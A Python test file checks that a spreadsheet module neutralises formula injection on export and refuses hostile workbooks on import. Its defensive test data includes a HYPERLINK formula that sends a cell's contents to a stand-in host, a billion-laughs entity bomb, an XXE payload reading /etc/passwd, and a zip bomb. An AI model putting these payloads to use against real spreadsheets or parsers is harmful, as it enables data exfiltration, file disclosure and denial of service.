"""Spreadsheets out (formula injection, limits) and in (bombs, macros, damaged files)."""
import os
import zipfile

import openpyxl
import pytest

from peerkit import excel
from peerkit.errors import DataError

INJECTIONS = ['=HYPERLINK("http://x/?"&A2,"hi")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1", "=1+1"]


def _sheet_xml(path):
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("write_only", [False, True])
def test_formula_looking_text_is_stored_as_text(tmp_path, write_only):
    path = tmp_path / "out.xlsx"
    wb = openpyxl.Workbook(write_only=write_only)
    if write_only:
        ws = wb.create_sheet("S")
        for v in INJECTIONS:
            ws.append([excel.text_cell(ws, v)])
    else:
        ws = wb.active
        for i, v in enumerate(INJECTIONS, 1):
            excel.set_text(ws.cell(row=i, column=1), v)
    excel.save_workbook(wb, path)
    assert oct(os.stat(path).st_mode & 0o777) == "0o600"
    assert "<f>" not in _sheet_xml(path)
    back = openpyxl.load_workbook(path)
    cells = [back.worksheets[0].cell(row=i, column=1) for i in range(1, len(INJECTIONS) + 1)]
    for cell, original in zip(cells, INJECTIONS, strict=True):
        assert cell.data_type == "s"
        assert cell.quotePrefix, original
        # XML normalises a lone CR to LF; everything else round-trips exactly
        assert cell.value == original.replace("\r", "\n")


def test_text_is_never_cut_silently(tmp_path):
    wb = openpyxl.Workbook()
    with pytest.raises(DataError) as err:
        excel.set_text(wb.active["A1"], "x" * 40_000, "note N-1 field 'intervention'")
    assert "40,000 characters" in err.value.message and "xxxx" not in err.value.message


def test_control_characters_never_crash_and_never_echo(tmp_path):
    wb = openpyxl.Workbook()
    excel.set_text(wb.active["A1"], "Sam\x07 Example\x00 said\x1b hi")
    assert wb.active["A1"].value == "Sam Example said hi"
    excel.save_workbook(wb, tmp_path / "c.xlsx")


# ----------------------------------------------------------------------------- imports


def _good(tmp_path, rows=3, name="good.xlsx"):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "value"])
    for i in range(rows):
        ws.append([f"R{i}", i])
    path = tmp_path / name
    wb.save(path)
    return path


def _rewrite_member(src, dst, member, transform):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == member:
                data = transform(data)
            zout.writestr(info.filename, data)
    return dst


def _read_all(path):
    wb = excel.open_workbook(path)
    return [values for _, values in excel.iter_rows(path, wb.worksheets[0])]


def test_a_good_workbook_reads(tmp_path):
    rows = _read_all(_good(tmp_path))
    assert rows[0] == ["id", "value"] and rows[-1] == ["R2", 2]


BOMB = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("prolog", [BOMB, XXE], ids=["billion-laughs", "xxe"])
@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_entity_declarations_are_refused(tmp_path, prolog, member):
    def add_doctype(data):
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        return prolog + body.replace(b"<v>", b"<v>&lol3;", 1) if prolog is BOMB else prolog + body
    bad = _rewrite_member(_good(tmp_path), tmp_path / "bad.xlsx", member, add_doctype)
    with pytest.raises(DataError) as err:
        _read_all(bad)
    assert "root:" not in err.value.message


def test_zip_bomb_and_oversize_and_many_members(tmp_path):
    bomb = _rewrite_member(_good(tmp_path), tmp_path / "bomb.xlsx", "xl/worksheets/sheet1.xml",
                           lambda d: d + b" " * 5_000_000)
    with pytest.raises(DataError, match="zip bomb"):
        excel.open_workbook(bomb)
    big = tmp_path / "big.xlsx"
    big.write_bytes(b"PK" + os.urandom(26 * 1024 * 1024))
    with pytest.raises(DataError, match="larger than 25 MB"):
        excel.open_workbook(big)
    many = tmp_path / "many.xlsx"
    with zipfile.ZipFile(many, "w") as zf:
        for i in range(10_000):
            zf.writestr(f"xl/m{i}.xml", b"x")
    with pytest.raises(DataError, match="parts"):
        excel.open_workbook(many)


def test_macros_encrypted_old_and_other_formats_are_refused(tmp_path):
    xlsm = _rewrite_member(_good(tmp_path), tmp_path / "m.xlsx", "xl/workbook.xml", lambda d: d)
    with zipfile.ZipFile(xlsm, "a") as zf:
        zf.writestr("xl/vbaProject.bin", b"\x00" * 100)
    with pytest.raises(DataError, match="macros"):
        excel.open_workbook(xlsm)
    ole = tmp_path / "enc.xlsx"
    ole.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1000)
    with pytest.raises(DataError, match="password-protected"):
        excel.open_workbook(ole)
    ods = tmp_path / "sheet.xlsx"
    with zipfile.ZipFile(ods, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", "<x/>")
    with pytest.raises(DataError, match="OpenDocument"):
        excel.open_workbook(ods)
    empty = tmp_path / "empty.xlsx"
    empty.write_bytes(b"")
    with pytest.raises(DataError, match="empty"):
        excel.open_workbook(empty)
    text = tmp_path / "text.xlsx"
    text.write_text("id,value\n1,2\n")
    with pytest.raises(DataError, match="not an .xlsx"):
        excel.open_workbook(text)
    good = _good(tmp_path).read_bytes()
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(good[: len(good) // 2])
    with pytest.raises(DataError, match="damaged or truncated"):
        excel.open_workbook(cut)


def test_a_formula_cell_is_refused_with_its_reference(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.append(["id", "value"])
    wb.active.append(["R1", "=1+1"])
    path = tmp_path / "f.xlsx"
    wb.save(path)
    with pytest.raises(DataError, match="cell B2 holds a formula"):
        _read_all(path)


def test_forged_dimensions_do_not_drop_rows(tmp_path):
    src = _good(tmp_path, rows=10_000)

    def forge(data):
        import re
        return re.sub(rb'<dimension ref="[^"]+" ?/>', b'<dimension ref="A1:A1"/>', data)

    forged = _rewrite_member(src, tmp_path / "forged.xlsx", "xl/worksheets/sheet1.xml", forge)
    assert b'ref="A1:A1"' in zipfile.ZipFile(forged).read("xl/worksheets/sheet1.xml")
    rows = _read_all(forged)
    assert len(rows) == 10_001 and rows[-1] == ["R9999", 9999]


def test_defusedxml_is_active():
    assert openpyxl.DEFUSEDXML is True
